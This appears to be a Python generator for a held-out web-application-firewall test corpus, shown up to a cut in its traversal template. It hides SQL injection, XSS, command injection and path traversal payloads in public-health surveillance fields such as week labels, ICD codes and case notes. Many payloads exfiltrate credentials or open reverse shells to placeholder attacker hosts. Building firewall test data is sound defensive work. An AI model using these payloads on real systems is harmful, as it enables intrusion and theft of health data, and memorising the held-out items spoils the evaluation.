"""Held-out ATTACK corpus for the WAF evaluation: public-health surveillance.

Attack payloads hidden in the notations of a surveillance / epidemiology
system (surveillance-week labels, ICD-10/LOINC codes, district names, case
notes, case definitions, line-list cells, export paths, data-source URLs,
sitrep templates, uploaded CDA/HL7 XML, audit log lines, alert e-mails, lab
staff directory look-ups...).  Each value is meant to work against a
vulnerable application that puts it where its class says:

    class = "<context>-<technique>[+<encoding>]"

    context   where the app puts the value (weeklabel = a week label that is
              concatenated into SQL / a shell line / JS; icdsearch = a code
              search box inside a LIKE or = clause; datasource = a URL the
              server fetches; sitrep = a server-side rendered template; ...)
              "plain" = a bare payload with no domain disguise.
    technique how it works (union, time_blind, js_string, dollar_subst, ...)
    encoding  optional transport/obfuscation layer (urlenc, double_urlenc,
              html_entity, unicode_escape, case_mix, comment_space,
              overlong_utf8, decimal_ip, ...)

Every value was written by hand for this corpus from an understanding of the
technique (literals below) or comes from the small templates at the end,
which recombine hand-written pools.  No public payload list, dataset or vendor
example was used.  Secrets are fake; attacker infrastructure is
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24.

Run:  python3 make_attacks.py   ->  attacks.jsonl next to this file.
"""

import json
import random
import sys
from pathlib import Path

SEED = 6002
PREFIX = "ha60"
MAX_LEN = 1800

CATEGORY_ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]

# ---------------------------------------------------------------------------
# SQL injection.  Contexts: the value is concatenated into a quoted string
# (WHERE epi_week = '...', icd10 LIKE '...%', INSERT ... VALUES ('...')), a
# numeric comparison, an ORDER BY, or an IN (...) list.
# ---------------------------------------------------------------------------
SQLI = [
    ("casenote-stacked", "Patient reports fever since Monday'); DROP TABLE case_notes;--"),
    ("casenote-concat_exfil", "Fever 38.5, cough' || (SELECT string_agg(username || ':' || password_hash, ',') FROM app_users) || '"),
    ("icdsearch-union", "A09%' UNION ALL SELECT username, password_hash FROM app_users-- "),
    ("weeklabel-time_blind", "2024-W07' AND (SELECT 1 FROM pg_sleep(6)) IS NOT NULL--"),
    ("weeklabel-time_blind", "2024-W08' AND SLEEP(5)-- -"),
    ("weeklabel-stacked_time", "2024-W09'; WAITFOR DELAY '0:0:7'--"),
    ("filter-tautology", "65 OR 1=1"),
    ("district-tautology", "Nord' OR 'x'='x"),
    ("district-error_based", "Kasai' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT password FROM users LIMIT 1)))-- -"),
    ("district-error_based", "Nord-Est' AND 1=CAST((SELECT string_agg(usename, ',') FROM pg_user) AS int)--"),
    ("weeklabel-error_based", "2024-W10' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.databases))--"),
    ("icdsearch-union", "B05.9' UNION SELECT username, password FROM dba_users--"),
    ("icdsearch-time_blind", "A15.0' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--"),
    ("icdsearch-union", "J10.1' UNION SELECT name, sql FROM sqlite_master--"),
    ("icdsearch-boolean", "B05.9' AND SUBSTR((SELECT password_hash FROM app_users WHERE username='admin'),1,1)='$'--"),
    ("labcomment-oob", r"Specimen haemolysed'; EXEC master..xp_dirtree '\\sqli.attacker.example\share';--"),
    ("icdsearch-oob", "A00' AND (SELECT UTL_HTTP.REQUEST('http://203.0.113.17/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL--"),
    ("sitrep-copy_program", "Sitrep W07 draft'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p.sh | sh';--"),
    ("linelist-into_outfile", "Kinshasa' UNION SELECT '<?php system($_GET[c]); ?>', NULL INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("snippet-union_schema", "2024-01-01' UNION SELECT table_name, column_name FROM information_schema.columns--"),
    ("filter-orderby_boolean", "onset_date, (CASE WHEN (SELECT substr(password_hash,1,1) FROM app_users LIMIT 1)='a' THEN district ELSE epi_week END)"),
    ("filter-limit_procedure", "25 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("contactlog-insert_subquery", "No answer, SMS sent', (SELECT group_concat(phone) FROM contacts))-- -"),
    ("labcomment-stacked_insert", "Not detected'; INSERT INTO app_users(username, role, password_hash) VALUES ('epi_support','admin','x');--"),
    ("labcomment-stacked_update", "Ct 24.3'; UPDATE app_users SET role='admin' WHERE username='field_tech07';--"),
    ("weeklabel-union+urlenc", "2024-W07%27%20UNION%20SELECT%20username%2Cpassword_hash%20FROM%20app_users--%20"),
    ("district-tautology+double_urlenc", "Nord%2527%2520OR%25201%253D1--%2520"),
    ("icdsearch-union+comment_space", "A09'/**/UNION/**/SELECT/**/username,password_hash/**/FROM/**/app_users--"),
    ("icdsearch-union+case_mix", "B05' uNiOn SeLeCt token, NULL fRoM api_keys-- "),
    ("icdsearch-union+versioned_comment", "J11' /*!50000UNION*/ /*!50000SELECT*/ user(), @@version-- -"),
    ("district-tautology+fullwidth", "Nord＇ OR 1=1--"),
    ("linelist-file_read+hex", "Goma' UNION SELECT 1, LOAD_FILE(0x2f6574632f706173737764)-- -"),
    ("district-union_char", "Centre' UNION SELECT CHAR(97,100,109,105,110), password FROM users-- -"),
    ("filter-boolean_subquery", "0 OR (SELECT COUNT(*) FROM app_users WHERE role='admin' AND password_hash LIKE 'a%')>0"),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-tautology", "' OR '1'='1"),
    ("plain-stacked", "1; DROP TABLE users"),
    ("plain-union", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-comment_trunc", "admin'--"),
    ("plain-time_blind", "1' AND SLEEP(5)#"),
    ("plain-tautology", "') OR ('a'='a"),
    ("plain-numeric_tautology", "1 OR 1=1"),
    ("plain-error_based", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-orderby_probe", "1' ORDER BY 9--"),
    ("icdsearch-heavy_query", "A08' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("district-heavy_query", "Ituri' AND (SELECT count(*) FROM generate_series(1,30000000))>0--"),
    ("weeklabel-xp_cmdshell", "2024-W11'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami';--"),
    ("labcomment-insert_subquery", "Not detected', (SELECT @@hostname), NOW())-- -"),
    ("casedef-union", "cough OR dyspnoea') UNION SELECT id, password_hash FROM app_users--"),
    ("district-json_boolean", "Littoral' OR (SELECT to_jsonb(u) FROM app_users u LIMIT 1)::text LIKE '%admin%'--"),
    ("linelist-insert_rows", "Kinshasa'),('SUR-2024-99999','2024-W07','confirmed')--"),
    ("loinc-in_list", "94500-6') OR 1=1 OR loinc IN ('"),
    ("weeklabel-oob", "2024-W12'; SELECT * FROM OPENROWSET('SQLOLEDB','server=198.51.100.23;uid=sa;pwd=x','SELECT 1');--"),
    ("casenote-oob", "No travel' || (SELECT dblink_connect('host=' || (SELECT current_user) || '.exfil.attacker.example dbname=x')) || '"),
    ("icdsearch-oob", r"A39' AND LOAD_FILE(CONCAT('\\\\',(SELECT authentication_string FROM mysql.user LIMIT 1),'.oob.attacker.example\\a'))-- -"),
    ("onsetdate-boolean", "2024-02-13' AND (SELECT ASCII(SUBSTRING(api_token,1,1)) FROM service_accounts LIMIT 1) > 77 AND '1'='1"),
    ("filter-orderby_time", "desc, (SELECT 1 FROM pg_sleep(4))"),
    ("filter-having_error", "district HAVING 1=1--"),
    ("sitrep-stacked", "Sitrep W07 approved'; TRUNCATE TABLE audit_log;--"),
    ("filter-tautology+unicode_escape", "{\"week\": \"2024-W07\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("district-union+newline_space", "Nord'\nUNION\nSELECT\nusername,\npassword_hash\nFROM\napp_users--"),
    ("weeklabel-spaceless_time", "2024-W13'or(select(1)from(select(sleep(5)))a)or'"),
    ("exportpath-attach_write", "x'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t (c text); INSERT INTO p.t VALUES ('<?php system($_GET[0]); ?>');--"),
    ("labcomment-lo_import", "Specimen OK'; SELECT lo_import('/etc/passwd', 31337);--"),
    ("facility-conditional_time", "93; IF (SELECT SYSTEM_USER)='sa' WAITFOR DELAY '0:0:5'--"),
    ("icdsearch-error_based", "A20' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE ROWNUM=1))--"),
    ("district-error_based", "Kasai' AND UPDATEXML(NULL, CONCAT(0x2e, (SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema=DATABASE())), NULL)-- -"),
    ("filter-expr_union", "temp_c >= 38.0 AND (cough OR dyspnoea) UNION SELECT NULL, username, password_hash FROM app_users"),
    ("casenote-multiline_stacked", "Interview 2 (home visit):\n- bird is sick → psittacosis?');\nDELETE FROM contacts WHERE cluster_id = 'CL-2024-014';--"),
]

_SQLI_PREFIXES = [
    ("weeklabel", ["2024-W%02d" % w for w in (3, 14, 15, 19, 22, 27, 31, 40, 44, 51)]),
    ("district", ["Sud-Ouest", "Mbeya", "Antioquia", "Bunia", "Commune 3", "Hauts-de-France"]),
    ("icdsearch", ["A01.0", "A92.0", "B26.9", "A98.4", "J11.1", "A87.9"]),
]
_SQLI_TAILS = [
    ("' AND (SELECT 1 FROM pg_sleep({n})) IS NOT NULL--", "time_blind"),
    ("' AND {n}=(SELECT COUNT(*) FROM app_users WHERE role='admin')--", "boolean_count"),
    ("' UNION SELECT NULL, current_user, version()--", "union"),
    ("'; SELECT pg_sleep({n});--", "stacked_time"),
    ("' AND BENCHMARK({n}000000,MD5('x'))-- -", "heavy_query"),
    ("' OR EXISTS(SELECT 1 FROM app_users WHERE username LIKE 'adm%')--", "boolean_exists"),
]


def tpl_sqli(rng):
    ctx, prefixes = rng.choice(_SQLI_PREFIXES)
    tail, tech = rng.choice(_SQLI_TAILS)
    return "%s-%s" % (ctx, tech), rng.choice(prefixes) + tail.replace("{n}", str(rng.randint(3, 9)))


# ---------------------------------------------------------------------------
# Cross-site scripting.  Contexts: note body rendered without escaping, an
# attribute value, a JS string / number / template literal in an inline
# script, a URL (href/src), Markdown rendered to HTML, uploaded SVG, a
# client-side template (AngularJS/Vue), the DOM (location.hash).
# ---------------------------------------------------------------------------
XSS = [
    ("casenote-img_onerror", "Fever + rash, see photo <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
    ("casenote-script_src", "Onset 12/03 <script src=https://attacker.example/k.js></script>"),
    ("plain-svg_onload", "<svg onload=alert(document.domain)>"),
    ("district-attr_breakout", "Nord\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("district-attr_autofocus", "Kasai' autofocus onfocus='fetch(`//attacker.example/`+localStorage.token)"),
    ("weeklabel-js_string", "2024-W07';fetch('//attacker.example/?'+document.cookie);//"),
    ("weeklabel-script_close", "W07</script><script>new Image().src='//attacker.example/l?c='+document.cookie</script>"),
    ("datasource-javascript_uri", "javascript:fetch('https://attacker.example/x',{method:'POST',body:document.cookie})"),
    ("datasource-data_uri+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("sitrep-markdown_link", "[Download line list](javascript:alert(document.cookie))"),
    ("sitrep-markdown_image", "![epi curve](https://attacker.example/a.png\"onerror=\"alert(document.domain))"),
    ("sitrep-href_scheme+html_entity", "<a href=\"jav&#x61;script:alert(document.cookie)\">Sitrep W07</a>"),
    ("labcomment-img_onerror+html_entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("weeklabel-js_string+unicode_escape", "W07';\\u0061lert(document.domain);//"),
    ("casenote-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("casenote-svg_onload+double_urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("casenote-script+case_mix", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("labcomment-details_ontoggle", "<details open ontoggle=alert(document.cookie)>Lab comment</details>"),
    ("casenote-iframe_srcdoc", "<iframe srcdoc=\"<script>parent.location='//attacker.example/?'+parent.document.cookie</script>\"></iframe>"),
    ("sitrep-body_onload", "<body onload=alert('sitrep')>"),
    ("casenote-noscript_mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("contactlog-input_autofocus", "<input value=\"W07\" onfocus=alert(1) autofocus>"),
    ("casenote-source_onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("casenote-html_overlay", "<a href=\"https://attacker.example/phish\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Login expired, click to continue</a>"),
    ("sitrep-form_phish", "<form action=https://attacker.example/harvest method=post><input name=password placeholder=\"Re-enter password to view PII\"><button>OK</button></form>"),
    ("casenote-meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("sitrep-base_hijack", "<base href=\"https://attacker.example/\">"),
    ("filter-style_breakout", "red;}</style><script>alert(1)</script>"),
    ("weeklabel-js_template", "${fetch('//attacker.example/?c='+document.cookie)}"),
    ("casenote-angular_csti", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("casenote-vue_csti", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("upload-svg_script", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <script>alert(document.domain)</script>\n  <text x=\"10\" y=\"20\">Epi curve W07</text>\n</svg>"),
    ("casenote-eval_atob+base64", "<img src=\"x\" onerror=\"eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))\">"),
    ("labcomment-svg_animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("sitrep-object_data", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("sitrep-marquee_onstart", "<marquee onstart=alert(1)>Case count W07</marquee>"),
    ("casenote-contenteditable_onblur", "<x contenteditable onblur=alert(document.cookie)>click to edit note</x>"),
    ("casenote-css_import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("labcomment-slash_separator", "<img/src/onerror=alert(1)>"),
    ("plain-svg_backtick", "<svg/onload=alert`1`>"),
    ("exportpath-href_colon+html_entity", "<a href=\"&#106;avascript&colon;alert(1)\">Open export</a>"),
    ("exportpath-href_tab+whitespace", "<a href=\"java\tscript:alert(document.cookie)\">link</a>"),
    ("weeklabel-js_numeric", "7;alert(document.domain)//"),
    ("filter-js_in_attr", "');alert(document.cookie);('"),
    ("filter-js_in_attr+html_entity", "&#39;);alert(1);//"),
    ("sitrep-iframe_js", "<iframe src=\"javascript:alert(parent.document.cookie)\">"),
    ("filter-dom_hash", "#<img src=x onerror=alert(document.domain)>"),
    ("casenote-document_write", "Interview 2 (home visit):\n- bird is sick\n<script>document.write('<img src=//attacker.example/?'+document.cookie+'>')</script>"),
    ("casenote-img_onerror", "患者发热三天<img src=1 onerror=alert(document.domain)>"),
    ("casenote-svg_redirect", "Éruption maculopapuleuse <svg onload=\"location='https://attacker.example/?c='+document.cookie\">"),
    ("casenote-textarea_breakout", "</textarea><script>alert(document.domain)</script>"),
    ("sitrep-title_breakout", "</title><script>alert(1)</script>"),
    ("sitrep-comment_breakout", "--><script>alert(document.domain)</script><!--"),
    ("upload-svg_xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Open map</text></a></svg>"),
    ("casenote-dynamic_import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("contactlog-send_beacon", "<script>navigator.sendBeacon('//attacker.example/b', JSON.stringify(localStorage))</script>"),
    ("casenote-script+overlong_utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("casenote-script+utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-attr_breakout", "\"><script>alert(document.cookie)</script>"),
    ("plain-img_onerror", "'><img src=x onerror=alert(1)>"),
    ("plain-body_onpageshow", "<body onpageshow=alert(1)>"),
    ("plain-iframe_js", "<iframe src=javascript:alert(1)>"),
    ("plain-img_prompt", "<img src=x onerror=prompt(document.domain)>"),
    ("plain-svg_confirm", "\"><svg/onload=confirm(1)>"),
    ("filter-unquoted_attr", "x onmouseover=alert(document.cookie)"),
    ("casenote-pii_exfil", "<img src=x onerror=\"this.src='//attacker.example/?'+encodeURIComponent(document.body.innerText.slice(0,500))\">"),
    ("labcomment-select_autofocus", "<select autofocus onfocus=alert(1)>"),
    ("sitrep-formaction", "<form><button formaction=javascript:alert(document.domain)>Approve</button></form>"),
    ("loinc-img_onerror", "94500-6<img src=x onerror=alert(1)>"),
    ("icdsearch-attr_breakout", "A09 gastroenteritis\"><svg onload=alert(1)>"),
    ("filter-json_script", "{\"disease\":\"</script><script>alert(document.domain)</script>\"}"),
]

_XSS_PREFIXES = [
    ("casenote", ["Onset 02/03, fever 39.1", "Rash on trunk, photo attached", "Called mother 14:20",
                  "Paciente con fiebre", "Retour de voyage le 12/03"]),
    ("labcomment", ["Ct 24.3", "Specimen haemolysed", "IgM equivocal", "NS1 positive"]),
    ("contactlog", ["Day 5 of 21, T 36.8", "No answer x3", "Released D14"]),
]
_XSS_VECTORS = [
    ("<img src=x onerror=alert({n})>", "img_onerror"),
    ("<svg onload=confirm({n})>", "svg_onload"),
    ("<script>alert({n})</script>", "script"),
    ("<details open ontoggle=prompt({n})>", "details_ontoggle"),
    ("<iframe src=javascript:alert({n})>", "iframe_js"),
    ("<a href=javascript:alert({n})>see attachment</a>", "href_javascript"),
]


def tpl_xss(rng):
    ctx, prefixes = rng.choice(_XSS_PREFIXES)
    vec, tech = rng.choice(_XSS_VECTORS)
    return "%s-%s" % (ctx, tech), "%s %s" % (rng.choice(prefixes), vec.replace("{n}", str(rng.randint(1, 999))))


# ---------------------------------------------------------------------------
# OS command injection.  Contexts: a week label / export file name / FASTQ
# accession / lab gateway host passed to a shell line such as
#   Rscript -e "render('sitrep.Rmd', params=list(week='...'))"
#   zip exports/out.zip exports/...      ping -c 1 ...
# Linux (sh/bash) unless the class says _win / powershell.
# ---------------------------------------------------------------------------
CMDI = [
    ("weeklabel-semicolon", "2024-W07; curl -s http://attacker.example/x.sh | sh"),
    ("weeklabel-and_chain", "2024-W07 && wget -qO- http://203.0.113.45/a | bash"),
    ("exportpath-semicolon_exfil", "linelist_2024-W07.csv; cat /etc/shadow | nc 198.51.100.9 4444"),
    ("plain-dollar_subst", "$(id)"),
    ("plain-backtick", "`whoami`"),
    ("weeklabel-dollar_subst", "W07$(curl -fsSL attacker.example/s|sh)"),
    ("exportpath-backtick", "sitrep_W07.Rmd`curl attacker.example/$(hostname)`"),
    ("weeklabel-newline", "2024-W07\ncurl http://attacker.example/p | sh"),
    ("weeklabel-newline+urlenc", "2024-W07%0Aid"),
    ("weeklabel-semicolon+ifs", "W07;cat${IFS}/etc/passwd"),
    ("weeklabel-brace_expansion", "W07;{cat,/etc/passwd}"),
    ("weeklabel-quote_split", "W07;c'a't /e't'c/pas's'wd"),
    ("weeklabel-printf_hex", "W07;$(printf '\\x69\\x64')"),
    ("weeklabel-pipe_decode+base64", "W07;echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zLnNofHNo|base64 -d|sh"),
    ("exportpath-ampersand_win", r"report.docx & type C:\Windows\win.ini"),
    ("weeklabel-pipe_powershell", "W07 | powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("weeklabel-certutil_win", r"W07 & certutil -urlcache -f http://203.0.113.8/x.exe %TEMP%\x.exe & %TEMP%\x.exe"),
    ("weeklabel-powershell_enc+base64", "W07 & powershell -nop -w hidden -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEAdAB0AGEAYwBrAGUAcgAuAGUAeABhAG0AcABsAGUALwBwAC4AcABzADEAfABpAGUAeAA="),
    ("weeklabel-dquote_breakout", "W07\"; id; echo \""),
    ("weeklabel-reverse_shell", "W07; bash -c 'bash -i >& /dev/tcp/203.0.113.77/443 0>&1'"),
    ("accession-python_revshell", "SRR27654321; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("weeklabel-or_sleep", "W07 || sleep 10"),
    ("weeklabel-ping_delay_win", "W07 & ping -n 11 127.0.0.1 &"),
    ("weeklabel-sleep+ifs", "W07;sleep${IFS}7"),
    ("weeklabel-dns_exfil", "W07; nslookup $(whoami).cmd.attacker.example"),
    ("exportpath-tar_arg_injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("exportpath-zip_arg_injection", "out.zip -T -TT 'sh -c \"curl attacker.example/z|sh\"'"),
    ("sftphost-ssh_proxycommand", "-oProxyCommand=curl attacker.example/p|sh"),
    ("accession-destructive", "SRR27654321_1.fastq.gz; rm -rf /data/wgs/results"),
    ("accession-dollar_subst", "SRR27654321$(curl -d @/etc/passwd attacker.example)_1.fastq.gz"),
    ("labhost-and_chain", "lab-gw.internal && cat ~/.pgpass"),
    ("weeklabel-backtick_upload", "W07 `curl -X POST --data-binary @/etc/passwd http://attacker.example/u`"),
    ("weeklabel-ssh_key_persist", "W07; echo 'ssh-ed25519 AAAAC3NzaFAKEPLACEHOLDERKEY attacker@laptop' >> ~/.ssh/authorized_keys"),
    ("weeklabel-cron_persist", "W07; (crontab -l; echo '*/5 * * * * curl -s attacker.example/c|sh') | crontab -"),
    ("weeklabel-net_user_win", "W07 | net user epi_backup Fake-Placeholder-1 /add"),
    ("exportpath-redirect_win", r"W07" + "\" & whoami > C:\\inetpub\\wwwroot\\o.txt & \""),
    ("weeklabel-var_substring", "W07;${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id"),
    ("weeklabel-glob", "W07;/???/??t /???/p??s??"),
    ("weeklabel-ansi_c_quote", "W07;$'\\x63\\x61\\x74' /etc/passwd"),
    ("weeklabel-rev", "W07;$(rev<<<'di')"),
    ("weeklabel-semicolon+urlenc", "W07%3Bcurl%20http%3A%2F%2Fattacker.example%2Fs%7Csh"),
    ("weeklabel-semicolon+double_urlenc", "W07%253Bid"),
    ("weeklabel-ampersand_win+case_mix", "W07 & WhoAmI /PRIV"),
    ("weeklabel-caret_win", "W07 & w^h^o^a^m^i"),
    ("weeklabel-powershell_iex", "W07; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/r.ps1')"),
    ("weeklabel-mshta_win", "W07 & mshta http://attacker.example/p.hta"),
    ("weeklabel-curl_upload", "W07 || curl -T /var/lib/surveillance/exports/contacts.csv ftp://198.51.100.30/"),
    ("plain-semicolon", "; ls -la"),
    ("plain-pipe", "| id"),
    ("plain-and_chain", "&& cat /etc/passwd"),
    ("plain-dollar_sleep", "$(sleep 5)"),
    ("plain-ping_delay", "; ping -c 3 127.0.0.1"),
    ("plain-or_chain", "|| uname -a"),
    ("plain-backtick_sleep", "`sleep 5`"),
    ("sitrep-dollar_subst", "Sitrep final v2 $(curl attacker.example/$(whoami))"),
    ("weeklabel-tar_exfil", "W07; tar czf - /data/exports | curl -X PUT --data-binary @- https://attacker.example/up"),
    ("weeklabel-env_exfil", "W07; env | curl -d @- http://attacker.example/e"),
    ("weeklabel-environ_drop", "W07; cat /proc/self/environ > /var/www/html/e.txt"),
    ("weeklabel-awk_system", "W07 ; awk 'BEGIN{system(\"id\")}'"),
    ("weeklabel-xterm", "W07;xterm -display 203.0.113.66:1 &"),
    ("weeklabel-fifo_shell", "W07; mkfifo /tmp/f; nc 198.51.100.12 4444 < /tmp/f | sh > /tmp/f 2>&1"),
    ("weeklabel-busybox_nc", "W07;busybox nc 203.0.113.5 4444 -e sh"),
    ("exportpath-filename_semicolon", "epi_curve_W07.png;id;.png"),
    ("weeklabel-backtick_sleep", "W07 `sleep 8`"),
    ("weeklabel-sleep_comment", "W07;sleep 8 #"),
    ("weeklabel-ping_delay", "W07; ping -c 10 127.0.0.1"),
    ("weeklabel-timeout_win", "W07 & timeout /t 9"),
    ("weeklabel-dig_exfil", "W07&&dig +short $(id -u).d.attacker.example"),
    ("exportpath-chmod", "cholera_2024-W07_v2.csv;chmod -R 777 /var/lib/surveillance"),
]

_CMDI_PREFIXES = [
    ("weeklabel", ["2024-W%02d" % w for w in (2, 16, 21, 33, 38, 45, 49)]),
    ("exportpath", ["linelist_measles_2024-W18.csv", "contacts_CL-2024-021.xlsx", "epicurve_dengue.png"]),
    ("accession", ["SRR28110457_2.fastq.gz", "ERR1234509_1.fastq.gz"]),
]
_CMDI_SEPS = [(";", "semicolon"), ("|", "pipe"), ("&&", "and_chain"), ("||", "or_chain"), ("\n", "newline")]
_CMDI_CMDS = [
    "id",
    "uname -a",
    "cat /etc/hostname",
    "curl -s http://attacker.example/t/{n} | sh",
    "wget -q -O /tmp/.x http://203.0.113.{n}/b && sh /tmp/.x",
    "sleep {n}",
]


def tpl_cmdi(rng):
    ctx, prefixes = rng.choice(_CMDI_PREFIXES)
    sep, tech = rng.choice(_CMDI_SEPS)
    cmd = rng.choice(_CMDI_CMDS).replace("{n}", str(rng.randint(2, 90)))
    return "%s-%s" % (ctx, tech), "%s%s%s" % (rng.choice(prefixes), sep if sep == "\n" else " " + sep + " ", cmd)


# ---------------------------------------------------------------------------
# Path traversal.  Context: the value is joined onto an export / attachment /
# template directory and the file is read (or written, for zip slip).
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("plain-dotdot_win", r"..\..\..\..\windows\win.ini"),
    ("exportpath-dotdot", "linelist/2024/../../../../etc/shadow"),
    ("attachment-dotdot_env", "Sitrep_12_2024-03-15.pdf/../../../../app/.env"),
    ("exportpath-dotdot_sshkey", "2024-W07/../../../../../root/.ssh/id_rsa"),
    ("exportpath-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("exportpath-dotdot+double_urlenc", "..%252F..%252F..%252Fetc%252Fpasswd"),
    ("exportpath-dotdot+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("exportpath-dotdot+fullwidth", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("exportpath-nested_strip", "....//....//....//etc/passwd"),
    ("attachment-nested_strip", "..././..././..././etc/passwd"),
    ("plain-absolute", "/etc/passwd"),
    ("exportpath-proc_environ", "/proc/self/environ"),
    ("exportpath-proc_cwd", "/proc/self/cwd/config/settings.py"),
    ("exportpath-dotdot+nullbyte", "../../../../etc/passwd%00.csv"),
    ("attachment-dotdot_win", r"..\..\..\inetpub\wwwroot\web.config"),
    ("exportpath-mixed_slash", "..\\../..\\../etc/hosts"),
    ("exportpath-unc_ntlm", r"\\203.0.113.21\share\linelist.csv"),
    ("exportpath-dotdot_proc", "exports/linelist_2024-W07.csv/../../../../../../proc/self/cmdline"),
    ("upload-zip_slip", "../../../../var/www/html/shell.php"),
    ("exportpath-absolute_win", r"C:\Windows\System32\drivers\etc\hosts"),
    ("exportpath-absolute_win_fwd", "C:/inetpub/wwwroot/web.config"),
    ("exportpath-dot_encoding+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("exportpath-dotdot_win+urlenc", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("attachment-backslash+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
    ("exportpath-absolute_dotdot", "/var/lib/surveillance/exports/../../../../home/analyst/.Rhistory"),
    ("exportpath-dotdot_pgpass", "../../../home/analyst/.pgpass"),
    ("shapefile-dotdot", "shapefiles/districts_2023.shp/../../../../etc/passwd"),
    ("template-dotdot", "sitrep_templates/../../../../app/config/secrets.yaml"),
    ("exportpath-semicolon_param", "/exports/..;/admin/users.csv"),
    ("exportpath-alias_offbyslash", "/files../config/settings.py"),
    ("exportpath-dotdot_all+urlenc", "reports/2024/W07/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("exportpath-dotdot+u_encoding", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("exportpath-dotdot_win+overlong_utf8", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("exportpath-double_slash", "exports//..//..//..//etc/passwd"),
    ("exportpath-dotdot_win", r"2024-W07/..\..\..\..\..\Windows\win.ini"),
    ("exportpath-log_read", "../../../../var/log/nginx/access.log"),
    ("exportpath-proc_fd", "../../../../proc/self/fd/3"),
    ("attachment-nested_strip_win", r"....\\....\\....\\windows\\win.ini"),
    ("plain-dotdot_deep", "../../../../../../../../../../../../../../etc/passwd"),
    ("plain-dotdot_proc", "../../../../../../proc/version"),
    ("plain-dotdot_boot_ini", r"..\..\..\..\..\boot.ini"),
    ("template-webinf", "../WEB-INF/web.xml"),
    ("template-webinf_props", "../../WEB-INF/classes/application.properties"),
    ("exportpath-win_device_path", r"\\?\C:\Windows\win.ini"),
    ("exportpath-short_name_win", r"..\..\PROGRA~1\EPIINF~1\Projects\Cholera2024\Cholera2024.mdb"),
    ("exportpath-dotdot_query", "../../../../etc/passwd?.csv"),
    ("exportpath-dot_encoding+double_urlenc", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
]

_TRAV_DIRS = ["exports/linelist/2024", "sitrep/2024/final", "attachments/SUR-2024-00412", "maps/W07",
              "wgs/results/cgMLST", "templates/sitrep"]
_TRAV_TARGETS = ["etc/passwd", "etc/shadow", "root/.bash_history", "app/.env", "var/lib/postgresql/.pgpass",
                 "home/analyst/.ssh/id_ed25519"]


def tpl_traversal(rng):
    depth = rng.randint(3, 8)
